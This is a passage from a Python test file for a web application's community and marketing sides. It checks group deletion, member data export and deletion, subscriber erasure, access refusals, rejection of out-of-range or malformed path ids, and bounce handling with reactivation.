            "active": "on",
            "criteria": '{"activity": "thread_started"}',
        },
    )
    revoked = admin.post(f"/credentials/{iam_key}/revoke")
    deleted = admin.post(f"/lists/{key}/delete")

    assert 'value="Copy of Informz Starters"' in copy
    assert "{&#34;activity&#34;:&#34;thread_started&#34;}" in copy
    assert edited.status_code == 303
    assert bad.status_code == 422 and "criteria: not JSON" in bad.text
    assert rule.status_code == 303
    assert "Thank starters send email Thanks! yes 1" in text_of(admin.page("/rules"))
    assert revoked.status_code == 303
    assert re.search(r"Old connection .*? Revoked", text_of(admin.page("/credentials")))
    assert deleted.status_code == 303
    assert "Informz Starters" not in admin.page("/lists")


def test_a_group_is_deleted_from_its_menu_unless_a_campaign_or_mailing_uses_it(
    site: Site,
) -> None:
    with site.marketing.transaction() as session:
        spare = create_group(session, "Spare", now=NOW).id
        audience = create_group(session, "Tagging audience", now=NOW).id
        tagged = create_group(session, "Tagged", now=NOW).id
        campaign_id = create_campaign(
            session,
            {
                "name": "Tagging",
                "activation": {"group": "Tagging audience"},
                "steps": [{"id": "tag", "profile": {"add_to": "Tagged"}}],
            },
            now=NOW,
        ).id
    marketer = site.signed_in("marketing", MARKETER)

    listed = marketer.page("/groups")
    deleted = marketer.post(f"/groups/{spare}/delete")
    refused = marketer.post(f"/groups/{tagged}/delete")
    activation = marketer.post(f"/groups/{audience}/delete")

    assert 'aria-label="Delete Spare"' in listed
    assert (deleted.status_code, deleted.headers["location"]) == (303, "/marketing/groups")
    assert "Spare" not in text_of(marketer.page("/groups"))
    assert refused.status_code == 409
    assert (
        "the group 'Tagged' is used by the campaign 'Tagging' (step 'tag' of version 1); "
        "remove it from there first" in unescape(text_of(refused.text))
    )
    assert activation.status_code == 409
    assert "'Tagging' (activation group)" in unescape(text_of(activation.text))
    assert "add to 'Tagged'" in unescape(text_of(marketer.page(f"/campaigns/{campaign_id}")))


def test_a_member_downloads_their_own_data_and_a_super_admin_deletes_a_member(
    site: Site,
) -> None:
    with site.community.transaction() as session:
        leaving = add_member(session, "leaving", email="leaving@example.org").id
        add_member(session, "nosy", email="nosy@example.org")
        community_accounts.create_login(
            session, email="nosy@example.org", role="member", password=PASSWORD, now=NOW
        )
        ann = session.scalar(select(Member.id).where(Member.contact_key == "ann"))
    member, other, admin = (
        site.signed_in("community", email) for email in (MEMBER, "nosy@example.org", ADMIN)
    )

    own = member.get(f"/members/{ann}/data")
    assert own.status_code == 200 and "attachment" in own.headers["content-disposition"]
    assert own.json()["member"]["email"] == MEMBER and own.json()["account"]["role"] == "member"
    assert other.get(f"/members/{ann}/data").status_code == 403
    assert member.post(f"/members/{leaving}/delete").status_code == 403
    page = admin.page(f"/members/{leaving}")
    assert "Delete this member" in page and "Download all their data" in page

    deleted = admin.post(f"/members/{leaving}/delete")

    assert (deleted.status_code, deleted.headers["location"]) == (
        303,
        "/community/members?deleted=1",
    )
    assert "The member was deleted" in admin.page("/members", deleted="1")
    assert admin.get(f"/members/{leaving}").status_code == 404


def test_a_marketer_downloads_a_subscribers_data_and_erases_them(site: Site) -> None:
    with site.marketing.transaction() as session:
        rows = [SubscriberRow(2, "erase-me@example.org", "R-ERASE")]
        SubscriberUpsert(session, now=NOW, source="import").write(rows, ImportReport())
        erasing = session.scalar(select(Subscriber.id).where(Subscriber.remote_id == "R-ERASE"))
    marketer = site.signed_in("marketing", MARKETER)
    assert f'href="/marketing/subscribers/{erasing}"' in marketer.page("/subscribers", q="erase-me")

    data = marketer.get(f"/subscribers/{erasing}/data")
    assert data.status_code == 200 and data.json()["subscriber"]["remote_id"] == "R-ERASE"
    erased = marketer.post(f"/subscribers/{erasing}/erase")

    assert (erased.status_code, erased.headers["location"]) == (
        303,
        "/marketing/subscribers?erased=1",
    )
    assert "The subscriber was erased" in marketer.page("/subscribers", erased="1")
    assert marketer.get(f"/subscribers/{erasing}").status_code == 404
    with site.marketing.session() as session:
        [erasure] = session.scalars(select(Erasure)).all()
    assert erasure.erased_by == MARKETER and erasure.counts["subscribers"] == 1
    lifted = marketer.post("/erasures/lift", {"reference": "R-ERASE"})
    assert lifted.status_code == 303
    assert "A sync may create R-ERASE again" in marketer.page("/subscribers", lifted="R-ERASE")
    assert marketer.post("/erasures/lift", {"reference": "R-ERASE"}).status_code == 404


# Every page with an id in its path: (method, path with {id} where the id goes).
PAGES_WITH_IDS = [
    ("community", "get", "/members/{id}"),
    ("community", "get", "/members/{id}/data"),
    ("community", "post", "/members/{id}/delete"),
    ("marketing", "get", "/subscribers/{id}"),
    ("marketing", "get", "/subscribers/{id}/data"),
    ("marketing", "post", "/subscribers/{id}/erase"),
    ("marketing", "get", "/groups/{id}"),
    ("marketing", "get", "/groups/{id}/runs/1"),
    ("marketing", "get", "/groups/1/runs/{id}"),
    ("marketing", "get", "/groups/{id}/rejected.csv"),
    ("marketing", "get", "/groups/{id}/compound"),
    ("marketing", "post", "/groups/{id}/compound"),
    ("marketing", "post", "/groups/{id}/delete"),
    ("marketing", "post", "/groups/{id}/sync"),
    ("marketing", "get", "/groups/{id}/diagnosis"),
    ("marketing", "get", "/mailings/{id}"),
    ("marketing", "get", "/mailings/{id}/edit"),
    ("marketing", "post", "/mailings/{id}/edit"),
    ("marketing", "post", "/mailings/{id}/send"),
    ("marketing", "get", "/mailings/{id}/status"),
    ("marketing", "get", "/campaigns/{id}"),
    ("marketing", "get", "/campaigns/{id}/edit"),
    ("marketing", "post", "/campaigns/{id}/edit"),
    ("marketing", "post", "/campaigns/{id}/activate"),
    ("marketing", "post", "/campaigns/{id}/deactivate"),
    ("marketing", "get", "/reports/mailings/{id}"),
]


@pytest.mark.parametrize("bad_id", ["2147483648", "9223372036854775808", "%C2%B3"])
def test_an_id_no_row_can_have_is_refused_by_every_page_naming_it(site: Site, bad_id: str) -> None:
    visitors = {
        "community": site.signed_in("community", ADMIN),
        "marketing": site.signed_in("marketing", MARKETER),
    }
    for side, method, path in PAGES_WITH_IDS:
        visitor = visitors[side]
        url = path.replace("{id}", bad_id)
        page = visitor.post(url) if method == "post" else visitor.get(url)
        headers = {"Accept": "application/json", "X-CSRF-Token": visitor.csrf_token()}
        answer = visitor.http.request(method, url, headers=headers)

        assert page.status_code == 422, (url, page.status_code, page.text[:300])
        assert "the request is not valid: path." in unescape(text_of(page.text)), url
        assert answer.status_code == 422 and answer.json()["error"] == "InvalidInput", url
        assert answer.json()["message"].startswith("the request is not valid: path."), url


def test_a_subscribers_page_shows_a_bounce_with_its_evidence_and_reactivates_them(
    site: Site, smtp_sink: SmtpSink
) -> None:
    address = f"web-bounce-{site.marketing.engine.dialect.name}@example.net"
    add_readers(site.marketing, (address,), group_name="Bounced on the web")
    settings = with_bounce_address(site.settings)
    sent = send_to_readers(
        site.marketing, settings, smtp_sink, name="Web bounce", group_name="Bounced on the web"
    )
    dsn = postfix_dsn(sent.messages[address].sender, address)
    take_in(site.marketing, BouncePolicy.from_settings(settings), dsn, source="file", now=NOW)
    with site.marketing.session() as session:
        subscriber_id = find_subscriber(session, address).id
    marketer = site.signed_in("marketing", MARKETER)

    listed = marketer.page("/subscribers", q=address)
    shown = text_of(marketer.page(f"/subscribers/{subscriber_id}"))
    reactivated = marketer.post(f"/subscribers/{subscriber_id}/reactivate")
    after = text_of(marketer.page(f"/subscribers/{subscriber_id}"))

    assert (
        f'href="/subscribers/{subscriber_id}"' in listed
        or f"/subscribers/{subscriber_id}" in listed
    )
    assert "Status bounced" in shown
    assert (
        f"subscribed → bounced hard bounce hard bounce of mailing {sent.mailing_id}: 5.1.1, "
        f"550 5.1.1 &lt;{address}&gt;: Recipient address rejected" in shown
    )
    assert reactivated.status_code == 303
    assert "Status subscribed" in after
    assert "bounced → subscribed marketer" in after
    assert "Reactivate" not in after
